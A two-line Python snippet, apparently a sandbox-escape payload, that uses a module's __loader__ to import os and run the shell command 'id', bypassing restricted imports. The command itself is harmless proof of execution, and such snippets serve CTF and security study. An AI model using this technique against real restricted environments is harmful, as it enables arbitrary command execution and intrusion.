# the module's __loader__ loads any module
__loader__.load_module('os').system('id')
